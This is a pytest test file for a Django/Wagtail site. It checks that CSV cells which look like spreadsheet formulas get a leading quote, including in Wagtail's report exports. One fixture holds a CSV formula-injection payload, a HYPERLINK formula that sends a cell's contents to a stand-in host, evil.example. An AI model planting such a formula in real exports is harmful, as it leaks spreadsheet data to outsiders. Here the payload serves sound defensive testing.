"""A CSV cell never runs as a formula when a spreadsheet program opens it, whoever wrote the CSV."""

import csv
import io

import pytest
from django.urls import reverse

from convening.models import StandardPage
from convening.shared.spreadsheets import spreadsheet_safe
from tests.conftest import signed_in
from tests.factories import make_staff


@pytest.mark.parametrize("cell", ["=1+1", "+44 20", "-2", "@SUM(A1)", "\tx", "\rx"])
def test_a_cell_a_spreadsheet_would_run_starts_with_a_quote(cell):
    assert spreadsheet_safe(cell) == "'" + cell


def test_other_cells_are_left_as_they_are():
    assert spreadsheet_safe("Ada Lovelace") == "Ada Lovelace"
    assert spreadsheet_safe(42) == "42"


# Wagtail's own exports ---------------------------------------------------------------------

FORMULA_TITLE = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'


@pytest.fixture
def page_titled_as_a_formula(home_page):
    page = home_page.add_child(instance=StandardPage(title=FORMULA_TITLE, slug="formula"))
    page.save_revision().publish()
    return page


@pytest.mark.django_db
@pytest.mark.parametrize(
    "report",
    ["wagtailadmin_reports:site_history", "wagtailadmin_reports:aging_pages"],
)
def test_a_title_a_spreadsheet_would_run_is_quoted_in_wagtails_report_exports(
    page_titled_as_a_formula, report
):
    admin = signed_in(make_staff(superuser=True))
    response = admin.get(reverse(report), {"export": "csv"})

    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode(response.charset)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + FORMULA_TITLE in cells
    assert not any(cell.startswith("=") for cell in cells)
